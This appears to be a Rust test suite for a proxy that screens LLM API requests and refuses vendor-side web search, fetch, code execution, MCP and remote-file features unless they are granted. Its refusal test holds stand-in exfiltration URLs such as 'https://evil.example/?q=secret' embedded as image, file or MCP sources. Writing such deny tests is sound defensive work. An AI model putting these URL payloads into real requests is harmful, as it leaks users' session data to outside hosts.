use http::{HeaderMap, HeaderName};
use serde_json::{Value, json};

use super::*;

fn purpose(family: Family, chat: bool) -> Purpose {
    Purpose::Call(match family {
        Family::Anthropic => Api::Messages,
        Family::OpenAi if chat => Api::Chat,
        Family::OpenAi => Api::Responses,
        Family::Gemini => Api::Generate,
    })
}

const ANTHROPIC: (Family, bool) = (Family::Anthropic, false);
const RESPONSES: (Family, bool) = (Family::OpenAi, false);
const CHAT: (Family, bool) = (Family::OpenAi, true);
const GEMINI: (Family, bool) = (Family::Gemini, false);

fn ask((family, chat): (Family, bool), body: &Value, granted: &[VendorTool]) -> Result<Value, Refused> {
    let judged = judge(family, purpose(family, chat), body.to_string().as_bytes(), granted)?;
    Ok(serde_json::from_slice(&judged.body).unwrap())
}

/// What the clients send goes on as it is.
#[test]
fn what_programs_ask_goes_on_unchanged() {
    let png = json!({"type": "base64", "media_type": "image/png", "data": "iVBORw0="});
    let asked = [
        (
            ANTHROPIC,
            json!({
                "model": "m", "max_tokens": 10, "stream": true, "temperature": 0.5, "metadata": {"user_id": "u"},
                "system": [{"type": "text", "text": "s", "cache_control": {"type": "ephemeral"}}],
                "tools": [{"name": "a", "description": "d", "input_schema": {"type": "object"}},
                          {"type": "custom", "name": "b", "input_schema": {}}],
                "thinking": {"type": "enabled", "budget_tokens": 1024},
                "messages": [
                    {"role": "user", "content": "go"},
                    {"role": "assistant", "content": [
                        {"type": "thinking", "thinking": "t", "signature": "s"},
                        {"type": "tool_use", "id": "1", "name": "a", "input": {"url": "https://example.org/", "type": "url"}}]},
                    {"role": "user", "content": [
                        {"type": "tool_result", "tool_use_id": "1", "content": [
                            {"type": "text", "text": "https://example.org/"}, {"type": "image", "source": png}]},
                        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "x"}}]}],
            }),
        ),
        (
            RESPONSES,
            json!({
                "model": "m", "instructions": "i", "stream": true, "include": ["reasoning.encrypted_content"],
                "tools": [{"type": "function", "name": "a", "parameters": {}}, {"type": "custom", "name": "p"},
                          {"type": "local_shell"},
                          {"type": "namespace", "name": "mcp__butler", "tools": [{"type": "function", "name": "b"}]}],
                "input": [
                    {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "go"},
                        {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0="}]},
                    {"role": "assistant", "content": "words"},
                    {"type": "reasoning", "summary": [], "encrypted_content": "x"},
                    {"type": "function_call", "name": "a", "arguments": "{}", "call_id": "1"},
                    {"type": "function_call_output", "call_id": "1", "output": "done"}],
                "store": false,
            }),
        ),
        (
            CHAT,
            json!({
                "model": "m", "max_tokens": 10, "stream": true, "stream_options": {"include_usage": true},
                "tools": [{"type": "function", "function": {"name": "a", "parameters": {}}}],
                "messages": [
                    {"role": "system", "content": "s"},
                    {"role": "user", "content": [{"type": "text", "text": "go"},
                        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0="}}]},
                    {"role": "assistant", "content": null, "tool_calls": [
                        {"id": "1", "type": "function", "function": {"name": "a", "arguments": "{}"}}]},
                    {"role": "tool", "tool_call_id": "1", "content": "done"}],
            }),
        ),
        (
            GEMINI,
            json!({
                "systemInstruction": {"role": "user", "parts": [{"text": "s"}]},
                "contents": [
                    {"role": "user", "parts": [{"text": "go"}, {"inlineData": {"mimeType": "image/png", "data": "x"}}]},
                    {"role": "model", "parts": [{"functionCall": {"name": "a", "args": {"fileUri": "x"}}, "thoughtSignature": "y"}]},
                    {"role": "user", "parts": [{"functionResponse": {"id": "1", "name": "a", "response": {"output": "u"}}}]}],
                "tools": [{"functionDeclarations": [{"name": "a"}]}],
                "toolConfig": {"functionCallingConfig": {"mode": "AUTO"}},
                "generationConfig": {"temperature": 1},
            }),
        ),
    ];
    for (api, body) in asked {
        assert_eq!(ask(api, &body, &[]), Ok(body.clone()), "{api:?}");
        let judged = judge(api.0, purpose(api.0, api.1), body.to_string().as_bytes(), &[]).unwrap();
        assert!(judged.left_out.is_empty(), "{:?}", judged.left_out);
    }
}

/// Anything by which a vendor would act on a session's words is refused, wherever it stands.
#[test]
fn what_a_vendor_would_do_besides_answering_is_refused() {
    let block = |block: Value| json!({"messages": [{"role": "user", "content": [block]}]});
    let nested = |inner: Value| block(json!({"type": "tool_result", "tool_use_id": "1", "content": [inner]}));
    let url = json!({"type": "image", "source": {"type": "url", "url": "https://evil.example/?q=secret"}});
    let picture = json!([{"type": "input_image", "image_url": "https://e"}]);
    let item = |item: Value| json!({"input": [item]});
    let part = |part: Value| json!({"contents": [{"parts": [part]}]});
    let chat = |part: Value| json!({"messages": [{"role": "user", "content": [part]}]});
    let refused = [
        (ANTHROPIC, json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]})),
        (ANTHROPIC, json!({"tools": [{"name": "a"}, {"type": "web_fetch_20250910", "name": "web_fetch"}]})),
        (ANTHROPIC, json!({"tools": [{"type": "code_execution_20250825", "name": "x"}]})),
        (ANTHROPIC, json!({"tools": [{"type": "computer_20250124", "name": "x"}]})),
        (ANTHROPIC, json!({"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]})),
        (ANTHROPIC, json!({"tools": [{"type": "web_search_", "name": "x"}]})),
        (ANTHROPIC, json!({"tools": {"type": "web_search_20250305", "name": "web_search"}})),
        (ANTHROPIC, json!({"tools": [{"type": 7}]})),
        (ANTHROPIC, json!({"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp"}]})),
        (ANTHROPIC, json!({"container": "container_1"})),
        (ANTHROPIC, json!({"container": {"skills": []}})),
        (ANTHROPIC, block(url.clone())),
        (ANTHROPIC, nested(url.clone())),
        (ANTHROPIC, block(json!({"type": "document", "source": {"type": "content", "content": [url]}}))),
        (ANTHROPIC, block(json!({"type": "document", "source": {"type": "file", "file_id": "f"}}))),
        (ANTHROPIC, block(json!({"type": "container_upload", "file_id": "f"}))),
        (ANTHROPIC, block(json!({"type": "server_tool_use", "name": "web_fetch", "input": {"url": "https://e"}}))),
        (ANTHROPIC, block(json!({"type": "something_new"}))),
        (ANTHROPIC, json!({"system": [{"type": "image", "source": {"type": "url", "url": "https://e"}}]})),
        (RESPONSES, json!({"tools": [{"type": "web_search"}]})),
        (RESPONSES, json!({"tools": [{"type": "web_search_preview_2025_03_11"}]})),
        (RESPONSES, json!({"tools": [{"type": "mcp", "server_url": "https://evil.example"}]})),
        (RESPONSES, json!({"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]})),
        (RESPONSES, json!({"tools": [{"type": "namespace", "name": "n", "tools": [{"type": "web_search"}]}]})),
        (RESPONSES, json!({"tools": [{"type": "file_search"}, {"type": "image_generation"}]})),
        (RESPONSES, json!({"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]})),
        (RESPONSES, json!({"tools": [{"type": "tool_search"}]})),
        (RESPONSES, json!({"previous_response_id": "r"})),
        (RESPONSES, json!({"conversation": "c"})),
        (RESPONSES, json!({"background": true})),
        (RESPONSES, json!({"prompt": {"id": "p"}})),
        (RESPONSES, item(json!({"type": "item_reference", "id": "i"}))),
        (RESPONSES, item(json!({"role": "user", "content": picture}))),
        (RESPONSES, item(json!({"role": "user", "content": [{"type": "input_file", "file_url": "https://e"}]}))),
        (RESPONSES, item(json!({"role": "user", "content": [{"type": "input_file", "file_id": "f"}]}))),
        (RESPONSES, item(json!({"type": "function_call_output", "output": picture}))),
        (RESPONSES, item(json!({"type": "additional_tools", "tools": [{"type": "web_search"}]}))),
        (RESPONSES, json!({"model": "o3-deep-research"})),
        (CHAT, json!({"tools": [{"type": "web_search"}]})),
        (CHAT, json!({"web_search_options": {}})),
        (CHAT, json!({"plugins": [{"id": "web"}]})),
        (CHAT, json!({"model": "gpt-4o-search-preview"})),
        (CHAT, json!({"model": "vendor/model:online"})),
        (CHAT, chat(json!({"type": "image_url", "image_url": {"url": "https://evil.example/?q=secret"}}))),
        (CHAT, chat(json!({"type": "image_url", "image_url": "https://evil.example/?q=secret"}))),
        (CHAT, chat(json!({"type": "file", "file": {"file_id": "f"}}))),
        (CHAT, chat(json!({"type": "file", "file": {"file_data": "https://e"}}))),
        (GEMINI, json!({"tools": [{"googleSearch": {}}]})),
        (GEMINI, json!({"tools": [{"functionDeclarations": [], "google_search": {}}]})),
        (GEMINI, json!({"tools": {"url_context": {}}})),
        (GEMINI, json!({"tools": [{"codeExecution": {}}]})),
        (GEMINI, json!({"tools": [{"mcp_servers": [{}]}]})),
        (GEMINI, json!({"cached_content": "cachedContents/1"})),
        (GEMINI, part(json!({"fileData": {"fileUri": "https://evil.example/?q=secret"}}))),
        (GEMINI, part(json!({"file_data": {"file_uri": "https://evil.example/?q=secret"}}))),
        (GEMINI, part(json!({"functionResponse": {"name": "a", "parts": [{"fileData": {}}]}}))),
        (GEMINI, json!({"generationConfig": {"maxOutputTokens": 7}, "generation_config": {}})),
        (GEMINI, json!({"generate_content_request": {"tools": [{"googleSearch": {}}]}})),
        (GEMINI, json!({"systemInstruction": {"parts": {"fileData": {"fileUri": "https://e"}}}})),
    ];
    for (api, body) in refused {
        let answer = ask(api, &body, &[]);
        assert!(
            matches!(answer, Err(Refused::Never { .. } | Refused::NotGranted { .. })),
            "{api:?} {body}: {answer:?}"
        );
    }
}

#[test]
fn what_is_granted_goes_on_and_nothing_else() {
    use VendorTool::{CodeExecution, WebFetch, WebSearch};
    let each = [
        (ANTHROPIC, WebSearch, json!([{"type": "web_search_20250305", "name": "web_search"}])),
        (ANTHROPIC, WebFetch, json!([{"type": "web_fetch_20250910", "name": "web_fetch"}])),
        (ANTHROPIC, CodeExecution, json!([{"type": "code_execution_20250825", "name": "code_execution"}])),
        (RESPONSES, WebSearch, json!([{"type": "web_search"}])),
        (RESPONSES, CodeExecution, json!([{"type": "code_interpreter"}])),
        (GEMINI, WebSearch, json!([{"googleSearch": {}}])),
        (GEMINI, WebFetch, json!([{"url_context": {}}])),
    ];
    for (api, tool, tools) in each {
        let body = json!({"tools": tools});
        let kept = ask(api, &body, &[tool]).unwrap();
        assert_eq!(kept["tools"], tools, "{api:?}");
        for other in [WebSearch, WebFetch, CodeExecution].into_iter().filter(|other| *other != tool) {
            let why = ask(api, &body, &[other]).unwrap_err().to_string();
            assert!(why.contains("[runtime] vendor_tools = [\"") && why.contains(<&str>::from(tool)), "{why}");
        }
    }
}

#[test]
fn what_no_list_has_is_left_out() {
    let body = br#"{"model":"m","surprise":{"a":1},"mcp_servers":[],"container":null,"messages":[{"role":"user","content":"x","y":1}]}"#;
    let judged = judge(Family::Anthropic, Purpose::CountTokens, body, &[]).unwrap();
    assert_eq!(judged.model.as_deref(), Some("m"));
    let shown = String::from_utf8(judged.body).unwrap();
    assert_eq!(shown, r#"{"model":"m","messages":[{"role":"user","content":"x"}]}"#);
    assert_eq!(judged.left_out.into_iter().collect::<Vec<_>>(), ["container", "mcp_servers", "messages.y", "surprise"]);
    let kept = ask(RESPONSES, &json!({"store": true}), &[]).unwrap();
    assert_eq!(kept, json!({"store": false}), "the vendor keeps nothing");
    let kept = ask(CHAT, &json!({"stream": true, "stream_options": {"include_usage": false}}), &[]).unwrap();
    assert_eq!(kept["stream_options"], json!({"include_usage": true}), "it says what it used");
}

#[test]
fn what_two_readers_could_read_otherwise_is_refused() {
    let twice = br#"{"tools":[{"type":"web_search_20250305"}],"tools":[]}"#;
    for body in [&twice[..], b"\xff\xfe{\x00}\x00", b"{} {}", b"\x1f\x8b\x08", b"[]", b"", b"\"x\""] {
        let answer = judge(Family::Anthropic, Purpose::CountTokens, body, &[]);
        assert!(answer.is_err(), "{}: {answer:?}", String::from_utf8_lossy(body));
    }
}

fn kept(family: Family, list: &[(&'static str, &str)], granted: &[VendorTool]) -> Result<Vec<String>, Refused> {
    let mut asked = HeaderMap::new();
    for (name, value) in list {
        asked.append(HeaderName::from_static(name), value.parse().unwrap());
    }
    let mut left_out = BTreeSet::new();
    let kept = headers(family, &asked, granted, &mut left_out)?;
    Ok(kept.iter().map(|(name, value)| format!("{name}: {}", value.to_str().unwrap())).collect())
}

#[test]
fn headers_grant_nothing() {
    let plain = [
        ("anthropic-beta", "claude-code-20250219, interleaved-thinking-2025-05-14,unheard-of-2030-01-01"),
        ("content-type", "application/json"),
        ("content-encoding", "gzip"),
        ("x-surprise", "1"),
    ];
    let go = kept(Family::Anthropic, &plain, &[]).unwrap();
    let features = "anthropic-beta: claude-code-20250219,interleaved-thinking-2025-05-14";
    assert_eq!(go, [features, "content-type: application/json"]);
    for feature in
        ["mcp-client-2025-04-04", "files-api-2025-04-14", "code-execution-2025-05-22", "web-fetch-2025-09-10"]
    {
        assert!(kept(Family::Anthropic, &[("anthropic-beta", feature)], &[]).is_err(), "{feature}");
    }
    let fetch = [("anthropic-beta", "web-fetch-2025-09-10")];
    assert_eq!(kept(Family::Anthropic, &fetch, &[VendorTool::WebFetch]).unwrap().len(), 1);
    assert_eq!(kept(Family::OpenAi, &[("openai-beta", "unheard=v2")], &[]).unwrap(), [""; 0]);
}

#[test]
fn how_long_an_answer_may_be_is_told_of_what_goes_on() {
    for ((family, chat), body, most) in [
        (ANTHROPIC, json!({"max_tokens": 10, "messages": []}), Some(10)),
        (CHAT, json!({"max_tokens": 2, "max_completion_tokens": 5, "n": 3, "messages": []}), Some(15)),
        (RESPONSES, json!({"max_tokens": 1, "input": "go"}), None),
        (GEMINI, json!({"contents": [], "generationConfig": {"maxOutputTokens": 7}}), Some(7)),
        (GEMINI, json!({"contents": [], "generationConfig": {"maxOutputTokens": 7, "candidateCount": 2}}), Some(14)),
        (CHAT, json!({"n": 2, "messages": []}), Some(u64::MAX)),
        (CHAT, json!({"n": null, "max_tokens": 8.0, "messages": []}), Some(u64::MAX)),
        (GEMINI, json!({"generation_config": {"max_output_tokens": 7, "maxOutputTokens": 9}}), Some(9)),
        (GEMINI, json!({"generationConfig": {"maxOutputTokens": 7, "candidate_count": "2"}}), Some(u64::MAX)),
    ] {
        let judged = judge(family, purpose(family, chat), body.to_string().as_bytes(), &[]).unwrap();
        assert_eq!(judged.most_output, most, "{body}");
    }
}
